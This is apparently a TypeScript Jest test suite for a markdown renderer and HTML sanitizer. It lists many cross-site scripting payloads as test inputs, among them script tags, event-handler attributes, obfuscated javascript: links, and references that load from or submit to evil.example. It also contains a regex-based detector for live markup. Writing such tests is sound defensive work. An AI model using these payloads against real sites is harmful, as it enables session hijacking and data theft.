import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { createMarkdown } from '../../sandbox/page/markdown.ts'
import { sanitize } from '../../sandbox/page/sanitize.ts'
import { NASTY } from '../attacks/nasty.ts'
import { hostileComment, hostileHtml } from '../page/hostile-comment.ts'

const rendered = createMarkdown({
  person: login => login === 'octo-dev',
  page: number =>
    number === 8 ? 'https://github.test/acme/shop/pull/8' : undefined
})
const render = (text: string) => rendered(text).markup.trim()

describe('what would run or reach out', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>*{background:url(//evil.example)}</style>',
    '<base href=//evil.example>',
    '<form action=//evil.example><input name=a><button>b</button></form>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
    '<p/onmouseover=alert(1)>x',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x) [x](//evil.example) [x](/acme/shop)',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--a--!><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php <script>alert(1)</script> ?>',
    '<input type=image src=//evil.example>',
    '<p title="<script>alert(1)</script>">x</p>',
    '<p title=\'" onclick="alert(1)\'>x</p>'
  ])('is text or gone: %s', text => {
    expect(live(render(text))).toEqual([])
  })

  it('may be in any text at all', () => {
    fc.assert(
      fc.property(hostileComment, text => {
        expect(live(render(text))).toEqual([])
      }),
      { numRuns: 500 }
    )
  })

  it('may be in any HTML at all', () => {
    fc.assert(
      fc.property(hostileHtml, text => {
        expect(live(sanitize(text).markup)).toEqual([])
      }),
      { numRuns: 500 }
    )
  })

  it('is text where tags are too deep in each other', () => {
    const markup = render('<b>'.repeat(20_000))
    expect(live(markup)).toEqual([])
    expect(markup.split('<b>').length).toBeLessThan(102)
    expect(markup).toContain('&lt;b&gt;')
  })

  it('is text where it is too deep to be anything else', () => {
    const deep = `${'> '.repeat(30_000)}<script>`
    expect(render(deep)).toBe(
      `<p>${deep.replaceAll('>', '&gt;').replaceAll('<', '&lt;')}</p>`
    )
  })

  it('is not in the nastiest of texts', () => {
    expect(live(render(NASTY))).toEqual([])
  })

  it('would be found', () => {
    expect(live('<script>')).toEqual(['<script>'])
    expect(live('<p onclick="x">')).toEqual(['<p onclick="x">'])
    const link = '<a href="javascript:x" rel="nofollow">'
    expect(live(link)).toEqual([link])
    expect(live('a < b')).toEqual(['<'])
    expect(live('<b>')).toEqual(['<b> stays open'])
    expect(live('</b>')).toEqual(['</b>'])
  })
})

const HARMLESS =
  /^<(?:(?:p|strong|b|em|i|del|s|ins|sub|sup|kbd|samp|var|pre|blockquote|ul|li|h[1-6]|table|thead|tbody|tr|dl|dt|dd|summary|q|span)|details(?: open)?|ol(?: start="[^"<>]*")?|t[hd](?: align="[^"<>]*")?|code(?: class="language-[\w-]+")?|a href="(?:https?:|mailto:)[^"<>]*" rel="nofollow")>$/
const EMPTY =
  /^<(?:br|hr|input(?: checked| type="checkbox"| disabled){2,3}) \/>$/

/** What is more than text and harmless tags, each closed in its place. */
function live(markup: string): readonly string[] {
  const open: string[] = []
  const found: string[] = []
  for (const [whole, slash, name = ''] of markup.matchAll(
    /<(\/?)([a-z0-9]*)[^<>]*>|</gi
  )) {
    if (slash === '/' && open.at(-1) === name) open.pop()
    else if (slash === '' && HARMLESS.test(whole)) open.push(name)
    else if (!EMPTY.test(whole)) found.push(whole)
  }
  return [...found, ...open.map(name => `<${name}> stays open`)]
}
